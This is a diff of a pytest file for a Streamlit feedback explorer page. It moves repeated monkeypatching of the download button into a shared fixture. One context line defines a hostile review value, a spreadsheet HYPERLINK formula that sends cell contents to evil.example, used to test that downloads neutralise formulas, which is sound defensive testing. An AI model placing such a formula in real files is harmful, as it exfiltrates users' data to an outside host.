@@ -29,6 +29,20 @@ def explorer() -> AppTest:
     return app
 
 
+@pytest.fixture
+def downloads(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
+    """The keyword arguments of every download button the page draws (its `data` is what a click serves)."""
+    drawn: list[dict[str, Any]] = []
+    button = streamlit.download_button
+
+    def recorded(*args: Any, **kwargs: Any) -> Any:
+        drawn.append(kwargs)
+        return button(*args, **kwargs)
+
+    monkeypatch.setattr(streamlit, "download_button", recorded)
+    return drawn
+
+
 def test_explorer__search_and_filters_narrow_the_table(demo_database: str, use_database) -> None:  # type: ignore[no-untyped-def]
     use_database(demo_database)
     app = explorer()
@@ -68,7 +82,7 @@ HOSTILE_REVIEW = '=HYPERLINK("http://evil.example/?q="&A2,"zebracake refund here
 
 
 def test_explorer__the_page_download_neutralises_formulas(  # type: ignore[no-untyped-def]
-    demo_database: str, use_database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+    demo_database: str, use_database, tmp_path: Path, downloads: list[dict[str, Any]]
 ) -> None:
     copy = tmp_path / "pulse.db"
     shutil.copy(demo_database.removeprefix("sqlite:///"), copy)
@@ -84,14 +98,6 @@ def test_explorer__the_page_download_neutralises_formulas(  # type: ignore[no-un
     )
     upsert_feedback(engine, SourceSpec("Review export", "review", "csv"), FeedbackFrame.of([review]))
     engine.dispose()
-    downloads: list[dict[str, Any]] = []
-    button = streamlit.download_button
-
-    def recorded(*args: Any, **kwargs: Any) -> Any:
-        downloads.append(kwargs)
-        return button(*args, **kwargs)
-
-    monkeypatch.setattr(streamlit, "download_button", recorded)
     use_database(url)
     app = explorer()
     app.text_input(key="explorer__search").input("zebracake").run()
@@ -103,16 +109,8 @@ def test_explorer__the_page_download_neutralises_formulas(  # type: ignore[no-un
 
 
 def test_explorer__the_page_download_has_each_class_probability_beside_the_score(  # type: ignore[no-untyped-def]
-    demo_database: str, use_database, monkeypatch: pytest.MonkeyPatch
+    demo_database: str, use_database, downloads: list[dict[str, Any]]
 ) -> None:
-    downloads: list[dict[str, Any]] = []
-    button = streamlit.download_button
-
-    def recorded(*args: Any, **kwargs: Any) -> Any:
-        downloads.append(kwargs)
-        return button(*args, **kwargs)
-
-    monkeypatch.setattr(streamlit, "download_button", recorded)
     use_database(demo_database)
     app = explorer()
     probabilities = ["sentiment_p_negative", "sentiment_p_neutral", "sentiment_p_positive"]
